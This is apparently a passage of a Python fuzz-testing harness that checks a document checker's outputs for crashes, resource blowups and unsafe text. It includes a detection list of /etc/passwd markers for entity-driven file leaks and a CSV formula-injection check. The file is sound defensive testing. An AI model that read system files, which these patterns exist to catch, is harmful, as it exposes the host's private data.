    rng = random.Random(f"gkcheck-fuzz:{seed}:{index}")
    names = list(KINDS)
    return rng.choices(names, [KINDS[k][1] for k in names])[0]


def generate(seed: int, index: int, kind: str | None = None) -> Sample:
    """Sample ``index`` of run ``seed`` (of ``kind``, else the kind the pair draws)."""
    kind = kind or kind_of(seed, index)
    rng = random.Random(f"gkcheck-fuzz:{seed}:{index}:{kind}")
    name, data, detail = KINDS[kind][0](rng)
    suffix = name.rpartition(".")[2]
    return Sample(seed, index, kind, detail, f"f{seed}-{index:06d}-{kind}.{suffix}", data)


def samples(seed: int, n: int, kinds: tuple[str, ...] | None = None, start: int = 0) -> Iterator[Sample]:
    """Samples ``start`` … ``start + n - 1``; with ``kinds``, round-robin over them."""
    for i in range(start, start + n):
        yield generate(seed, i, kinds[i % len(kinds)] if kinds else None)


# ============================================================================ output safety

_C0 = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_C1 = re.compile("[\x80-\x9f]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
_LEAK = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")

#: Output formats whose text reaches a terminal or a page as is.
TERMINAL_FORMATS = ("text", "markdown")


def output_problems(fmt: str, text: str) -> list[str]:
    """What is unsafe in one output of format ``fmt`` (``convert`` for a converted document).

    Every output: encodable as UTF-8 (no lone surrogate), no file content pulled in by an
    entity. Text and Markdown (terminal, merge-request comment) and stderr: no ESC, no C0/C1
    control character but newline, tab and carriage return; bidi overrides are reported too
    (``bidi``, advisory). HTML: no ESC or control character (advisory). JUnit: well-formed XML. JSON,
    SARIF and the converted document: parse as strict JSON (``orjson``: no lone surrogate escape).
    """
    import orjson

    found = []
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        found.append("unencodable")
    if any(mark in text for mark in _LEAK):
        found.append("file-leak")
    if fmt in (*TERMINAL_FORMATS, "stderr", "html"):
        if "\x1b" in text:
            found.append("escape")
        if _C0.search(text.replace("\x1b", "")) or _C1.search(text):
            found.append("control")
        if fmt != "html" and _BIDI.search(text):
            found.append("bidi")
    if fmt == "junit":
        try:
            ET.fromstring(text.encode("utf-8", "surrogatepass"))
        except ET.ParseError as exc:
            found.append(f"invalid-xml ({str(exc)[:40]})")
    if fmt in ("json", "sarif", "convert"):
        try:
            orjson.loads(text.encode("utf-8", "surrogatepass"))
        except orjson.JSONDecodeError as exc:
            found.append(f"invalid-json ({str(exc)[:40]})")
    return [f"{fmt}:{f}" for f in found]


#: Problems that are advisory (reported, not counted): bidi controls anywhere, and controls in HTML
#: (a browser shows them as nothing or a box; the issue asks for clean terminal text, Markdown and XML).
ADVISORY = ("bidi", "html:escape", "html:control")


def is_advisory(problem: str) -> bool:
    """Whether an output problem (``format:what``) is advisory."""
    return problem.split(":", 1)[1] == "bidi" or problem in ADVISORY


def cli_problems(fmt: str, run: Any) -> list[str]:
    """The failures in what one ``gkcheck check --format FMT`` (or ``convert``) run printed.

    A refused file (exit code 2) prints nothing on stdout, only its message on stderr.
    """
    printed = output_problems(fmt, run.stdout) if run.stdout or run.returncode != 2 else []
    return [p for p in dict.fromkeys(printed + output_problems("stderr", run.stderr)) if is_failure(p)]


# ============================================================================ the in-process run

RENDER_FORMATS = ("text", "json", "sarif", "junit", "markdown", "html")


@dataclass
class CheckRun:
    """What checking one sample in-process did."""

    status: str  # "checked" | "refused" (a GkcheckError) | "crashed" (any other exception)
    seconds: float = 0.0
    stage: str = ""  # where it stopped: read, validate, previous, check, render:<format>
    error: str = ""  # the first line of the message or exception
    error_type: str = ""
    frames: list[str] = field(default_factory=list)  # the traceback's last frames, "file:line in func"
    problems: list[str] = field(default_factory=list)  # output-safety problems and Python warnings
    score: float | None = None
    outputs: dict[str, str] = field(default_factory=dict)

    @property
    def signature(self) -> str:
        """What tells one cause from another: the stage, the exception type and the innermost gkcheck frame."""
        own = [f for f in self.frames if f.startswith("checker/")] or self.frames
        return f"{self.stage}: {self.error_type} at {own[-1] if own else '?'}"


def _frames(exc: BaseException, n: int = 8) -> list[str]:
    out = []
    for fr in traceback.extract_tb(exc.__traceback__)[-n:]:
        path = fr.filename
        for anchor in ("/checker/", "/site-packages/", "/lib/python3"):
            if anchor in path:
                path = path[path.index(anchor) + 1:]
                break
        out.append(f"{path}:{fr.lineno} in {fr.name}")
    return out


def _render_one(fmt: str, results: list[Any], ctx: Any) -> str:
    from dataclasses import replace

    from rich.console import Console

    from checker.render import RENDERERS

    buffer = io.StringIO()
    # as `gkcheck check --color never` with stdout not a terminal
    console = Console(file=buffer, force_terminal=False, no_color=True, highlight=False, soft_wrap=False, width=120)
    text = RENDERERS[fmt](results, replace(ctx, console=console))
    return text if text is not None else buffer.getvalue()


def check_in_process(sample: Sample, *, formats: tuple[str, ...] = RENDER_FORMATS, lang: str = "zh",
                     previous: bool = False, keep_outputs: bool = False) -> CheckRun:
    """Check one sample as ``gkcheck check`` does, render ``formats``, and judge the outputs.

    A refusal that the reader dispatcher (``checker.ingest._layout``) made of an unexpected
    exception in a reader ("文件可能已损坏：<exception text>") is a problem too
    (``read:wrapped-exception``): a reader's crash, though it ends in an InputError.

    The calls ``gkcheck check`` makes: read (``parse_document``), validate, check
    (``checker.run.check_documents``; with ``previous``, with a clean report as the previous year's, as
    ``--previous``), apply (no) waivers, render each format. A ``GkcheckError`` is a refusal
    (exit code 2, its message on stderr: judged as terminal text); any other exception is a
    crash. A Python warning raised on the way (e.g. numpy overflow) is a problem too: the
    CLI prints it on stderr.
    """
    import warnings

    from checker.api import compiled_ruleset, pair_of
    from checker.document import validate_document
    from checker.errors import GkcheckError
    from checker.ingest import parse_document
    from checker.render import RenderContext
    from checker.run import check_documents
    from checker.verdict import Policy

    start = time.perf_counter()
    out = CheckRun("checked")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            out.stage = "read"
            compiled = compiled_ruleset()
            doc = parse_document(sample.data, sample.name)
            out.stage = "validate"
            validate_document(doc)
            pairs = None
            if previous:
                out.stage = "previous"
                pairs = [pair_of(doc, json.loads(_examples()[0]), compiled)]
            out.stage = "check"
            checked = check_documents([doc], compiled, [sample.name], pairs)
            results, notices = checked.results, checked.notices
            out.score = results[0].score.overall
            ctx = RenderContext(compiled.ruleset, lang, Policy(), documents={sample.name: doc}, notices=tuple(notices))
            for fmt in formats:
                out.stage = f"render:{fmt}"
                text = _render_one(fmt, results, ctx)
                out.problems += output_problems(fmt, text)
                if keep_outputs:
                    out.outputs[fmt] = text
            out.stage = "done"
        except GkcheckError as exc:
            out.status = "refused"
            out.error_type = type(exc).__name__
            out.error = exc.message(lang).split("\n", 1)[0][:300]
            out.problems += output_problems("stderr", exc.message(lang))
            cause, last = exc.__cause__, traceback.extract_tb(exc.__traceback__)[-1:]
            if cause is not None and not isinstance(cause, GkcheckError) and last and last[0].name == "_layout" \
                    and Path(last[0].filename).parent.name == "ingest":  # a reader's crash, refused as "damaged"
                out.problems.append(f"read:wrapped-exception ({type(cause).__name__}: {str(cause)[:80]})")
                out.frames = _frames(cause)
        except Exception as exc:  # noqa: BLE001 - any other exception is what the fuzz run looks for
            out.status = "crashed"
            out.error_type = type(exc).__name__
            out.error = (str(exc).split("\n", 1)[0] or repr(exc))[:300]
            out.frames = _frames(exc)
    for w in caught:
        out.problems.append(f"warning:{w.category.__name__} {str(w.message)[:60]} ({Path(w.filename).name}:{w.lineno})")
    out.problems = list(dict.fromkeys(out.problems))
    out.seconds = time.perf_counter() - start
    return out


def is_failure(problem: str) -> bool:
    """Whether an output problem counts as a failure (advisory ones and warnings are reported apart)."""
    return not problem.startswith("warning:") and not is_advisory(problem)


# ============================================================================ isolated runs (time and memory bounds)

_WORKER_ADDRESS_CAP = 8 * 1024**3  # a safety net far above any bound: a regression must not take the machine down


@dataclass(frozen=True)
class Job:
    """One sample to check in a worker: ``generate(seed, index, kind)``, in ``lang``, with ``--previous``."""

    seed: int
    index: int
    kind: str | None = None
    lang: str = "zh"
    previous: bool = False


@dataclass
class Outcome:
    """What checking one job in a worker did; ``status`` adds ``unbounded-time``/``unbounded-memory``."""

    job: Job
    kind: str
    status: str
    seconds: float
    mb: float  # the worker's peak resident memory while checking this sample
    error: str = ""
    error_type: str = ""
    signature: str = ""
    frames: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    detail: str = ""


def job(seed: int, index: int, kind: str | None = None) -> Job:
    """The job of sample ``index`` as the fuzz runs check it: one in five in English, one in five
    with a clean previous-year report (``--previous``)."""
    return Job(seed, index, kind, lang="en" if index % 5 == 2 else "zh", previous=index % 5 == 0)


def _proc_mb(pid: int | str, name: str) -> float:
    try:
        with open(f"/proc/{pid}/status") as fh:
            for line in fh:
                if line.startswith(name + ":"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    if pid == "self":
        import resource

        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    return 0.0


def _worker(conn: Any) -> None:
    """Check the jobs the parent sends, one at a time, each with its own peak-memory figure."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (_WORKER_ADDRESS_CAP, _WORKER_ADDRESS_CAP))
    from checker.api import compiled_ruleset

    compiled_ruleset()  # loaded before the first sample's clock starts
    while True:
        job = conn.recv()
        if job is None:
            return
        sample = generate(job.seed, job.index, job.kind)
        try:  # reset the peak RSS (VmHWM) to the current RSS (Linux ≥ 4.0)
            with open("/proc/self/clear_refs", "w") as fh:
                fh.write("5")
        except OSError:
            pass
        run = check_in_process(sample, lang=job.lang, previous=job.previous)
        conn.send(Outcome(job, sample.kind, run.status, run.seconds, _proc_mb("self", "VmHWM"), run.error,
                          run.error_type, run.signature, run.frames, run.problems, sample.detail[:300]))


class _Worker:
    def __init__(self, ctx: Any) -> None:
        self.ctx = ctx
        self.start()

    def start(self) -> None:
        self.conn, child = self.ctx.Pipe()
        self.proc = self.ctx.Process(target=_worker, args=(child,), daemon=True)
        self.proc.start()
        child.close()
        self.job: Job | None = None
        self.since = 0.0

    def submit(self, job: Job) -> None:
        self.job, self.since = job, time.monotonic()
        self.conn.send(job)

    def kill(self) -> None:
        self.proc.kill()
        self.proc.join()
        self.conn.close()

    def stop(self) -> None:
        try:
            self.conn.send(None)
        except OSError:
            pass
        self.proc.join(timeout=10)
        if self.proc.is_alive():
            self.kill()


def run_isolated(jobs: list[Job], *, seconds: float = 30.0, memory_mb: float = 1500.0, workers: int = 1,
                 progress: Callable[[int, int], None] | None = None) -> list[Outcome]:
    """Check every job in worker processes; a worker whose sample passes a bound is killed and replaced.

    A sample still running after ``seconds``, or whose worker's resident memory passes
    ``memory_mb`` (polled while it runs, and the peak read after it), is ``unbounded-time`` or
    ``unbounded-memory``; a ``MemoryError`` is ``unbounded-memory`` too.
    """
    import multiprocessing as mp

    ctx = mp.get_context("spawn")
    pool = [_Worker(ctx) for _ in range(max(1, min(workers, len(jobs))))]
    todo = list(reversed(jobs))
    out: list[Outcome] = []

    def finish(w: _Worker, outcome: Outcome) -> None:
        out.append(outcome)
        w.job = None
        if progress is not None:
            progress(len(out), len(jobs))
        if todo:
            w.submit(todo.pop())

    def killed(w: _Worker, status: str, mb: float) -> None:
        assert w.job is not None
        job = w.job
        elapsed = time.monotonic() - w.since
        w.kill()
        w.start()
        detail = generate(job.seed, job.index, job.kind).detail[:300]
        finish(w, Outcome(job, job.kind or kind_of(job.seed, job.index), status, elapsed, mb,
                          f"killed after {elapsed:.0f} s at {mb:.0f} MB", detail=detail))

    for w in pool:
        if todo:
            w.submit(todo.pop())
    try:
        while any(w.job is not None for w in pool):
            for w in pool:
                if w.job is None:
                    continue
                if w.conn.poll(0.05):
                    try:
                        outcome: Outcome = w.conn.recv()
                    except EOFError:  # the worker died (a crash in a library)
                        job = w.job
                        w.kill()
                        w.start()
                        finish(w, Outcome(job, job.kind or kind_of(job.seed, job.index), "crashed", 0.0, 0.0,
                                          "the worker process died", "WorkerDied", "check: worker died"))
                        continue
                    if outcome.status == "crashed" and outcome.error_type == "MemoryError" or outcome.mb > memory_mb:
                        outcome.status = "unbounded-memory"
                    elif outcome.seconds > seconds:
                        outcome.status = "unbounded-time"
                    finish(w, outcome)
                elif time.monotonic() - w.since > seconds:
                    killed(w, "unbounded-time", _proc_mb(w.proc.pid, "VmHWM"))
                else:
                    rss = _proc_mb(w.proc.pid, "VmRSS")
                    if rss > memory_mb:
                        killed(w, "unbounded-memory", rss)
    finally:
        for w in pool:
            w.stop() if w.job is None else w.kill()
    return out


def outcome_failures(outcome: Outcome) -> list[str]:
    """The failures of one outcome, one line each (empty when it is fine)."""
    job = outcome.job
    where = f"{job.seed}:{job.index} {outcome.kind}"
    found = []
    if outcome.status == "crashed":
        found.append(f"{where}: internal error {outcome.signature}: {outcome.error[:200]}")
    elif outcome.status.startswith("unbounded"):
        found.append(f"{where}: {outcome.status} ({outcome.seconds:.1f} s, {outcome.mb:.0f} MB): {outcome.detail[:150]}")
    found += [f"{where}: output {p}: {outcome.detail[:150]}" for p in dict.fromkeys(outcome.problems) if is_failure(p)]
    return found


# ============================================================================ audit


@dataclass
class AuditRun:
    """One ``gkcheck audit`` and what its outputs hold."""

    run: Any  # hostile.harness.Run
    checked: set[str]  # file names in ranking.csv
    problems: list[tuple[str, str, str]]  # (file name, category, reason) from problems.csv
    formulas: list[tuple[str, str]]  # (table, cell) of CSV cells a spreadsheet would run as a formula

    @property
    def aborted(self) -> bool:
        from hostile.harness import INTERNAL_ERROR_MARKS

        return (self.run.killed or self.run.returncode not in (0, 1, 2)
                or any(mark in self.run.output for mark in INTERNAL_ERROR_MARKS))

    def unaccounted(self, names: list[str]) -> list[str]:
        """Input file names neither checked nor in problems.csv."""
        listed = {name for name, _, _ in self.problems}
        return [n for n in names if n not in self.checked and n not in listed]

    def hidden_crashes(self) -> list[tuple[str, str]]:
        """(file name, reason) of problem rows that hide a crash behind "cannot read"."""
        return [(n, r) for n, _, r in self.problems if any(mark in r for mark in HIDDEN_CRASH)]


HIDDEN_CRASH = ("读取时出错", "检查时出错", "Reading failed", "Checking failed")


def _csv_rows(path: Path) -> list[list[str]]:
    import csv

    if not path.exists():
        return []
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def is_formula(cell: str) -> bool:
    """A CSV cell a spreadsheet would evaluate (OWASP: starts with = + - @ tab CR and is not a number)."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def run_audit(paths: list[Path], out: Path, *, jobs: int = 2, seconds: float = 600.0) -> AuditRun:
    """``python -m checker audit PATHS -o OUT -j JOBS -q`` and its ranking and problems."""
    from hostile.harness import run_gkcheck

    run = run_gkcheck(["audit", *map(str, paths), "-o", str(out), "-j", str(jobs), "-q"], cwd=out.parent,
                      seconds=seconds)
    ranking, problems = _csv_rows(out / "ranking.csv"), _csv_rows(out / "problems.csv")
    column = ranking[0].index("文件") if ranking and "文件" in ranking[0] else 14
    checked = {Path(row[column]).name for row in ranking[1:] if len(row) > column}
    rows = [(Path(row[0]).name, row[1], row[2]) for row in problems[1:] if len(row) >= 3]
    formulas = [(name, cell[:60]) for name in ("ranking.csv", "problems.csv", "findings.csv")
                for row in _csv_rows(out / name)[1:] for cell in row if is_formula(cell)]
    return AuditRun(run, checked, rows, formulas)


# ============================================================================ command line


def main(argv: list[str] | None = None) -> int:
    """``python tests/hostile/fuzz.py SEED INDEX [--kind K] [-o FOLDER] [--check]``: write (and check) one sample."""
    import argparse

    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("seed", type=int)
    parser.add_argument("index", type=int)
    parser.add_argument("--kind", choices=sorted(KINDS))
    parser.add_argument("-o", "--output", default=".", help="folder to write the sample into")
    parser.add_argument("--check", action="store_true", help="also check it in-process and print what happened")
    args = parser.parse_args(argv)
    sys.path.insert(0, str(ROOT))  # check with the checker of this tree
    sample = generate(args.seed, args.index, args.kind)
    path = Path(args.output) / sample.name
    path.write_bytes(sample.data)
    print(f"{path}  kind={sample.kind}  {len(sample.data)} bytes\n  {sample.detail[:500]}")
    if args.check:
        how = job(args.seed, args.index, args.kind)
        print(f"  checked as the fuzz runs do: lang={how.lang} previous={how.previous}")
        result = check_in_process(sample, lang=how.lang, previous=how.previous)
        print(f"  {result.status} in {result.seconds:.2f} s: {result.error_type} {result.error}")
        for frame in result.frames:
            print(f"    {frame}")
        for problem in result.problems:
            print(f"  output problem: {problem}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
